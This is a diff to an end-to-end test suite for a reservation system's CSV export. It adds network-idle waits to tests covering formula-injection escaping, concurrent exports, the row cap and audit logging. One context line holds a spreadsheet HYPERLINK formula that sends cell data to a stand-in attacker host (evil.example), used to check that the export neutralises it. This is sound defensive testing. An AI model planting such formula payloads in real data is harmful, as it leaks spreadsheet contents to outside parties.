@@ -20,6 +20,8 @@ test('guest text that a spreadsheet would run as a formula comes out of the expo
   await sandboxPatchReservation(request, partner, direct, target!.id, { notes: hyperlink, guest: { first_name: command } });
   try {
     await page.goto(`/reservations?guest_email=${encodeURIComponent(target!.guest.email)}`);
+    // The search's paging loads over the server's render and reads the next page ahead: let it settle.
+    await page.waitForLoadState('networkidle');
     const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
     const line = readFileSync((await download.path())!, 'utf8').split('\r\n').find((l) => l.startsWith(target!.id))!;
     expect(line).toContain(`,"'-2+3+HYPERLINK(""https://evil.example/?leak=""&H2,""Details"")",`);
@@ -31,6 +33,8 @@ test('guest text that a spreadsheet would run as a formula comes out of the expo
 
 test('two exports started at once by one staff member: one runs, the other is refused; once it ends another may start', async ({ page }) => {
   await page.goto('/reservations');
+  // The search's paging loads over the server's render and reads the next page ahead: let it settle.
+  await page.waitForLoadState('networkidle');
   // Slow API answers keep the first export running while the second arrives.
   await sandboxControls(SANDBOX_URL).setFaults({ latency_ms: 400 });
   try {
@@ -47,6 +51,8 @@ test('two exports started at once by one staff member: one runs, the other is re
 
 test('an export over the row cap is refused, saying how to narrow the search, before any reservation is read', async ({ page, request }) => {
   await page.goto('/reservations');
+  // The search's paging loads over the server's render and reads the next page ahead: let it settle.
+  await page.waitForLoadState('networkidle');
   const total = Number(await page.getByTestId('result-count').textContent());
   expect(total).toBeGreaterThan(500); // the e2e cap (EXPORT_MAX_ROWS in playwright.config.ts)
   const mark = await sandboxRequestMark(request);
@@ -60,6 +66,8 @@ test('an export over the row cap is refused, saying how to narrow the search, be
 
 test('each export leaves one audit row with its search, its rows and how it ended', async ({ page }) => {
   await page.goto(`/reservations?${SMALL}`);
+  // The search's paging loads over the server's render and reads the next page ahead: let it settle.
+  await page.waitForLoadState('networkidle');
   const total = Number(await page.getByTestId('result-count').textContent());
   const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
   await download.path();
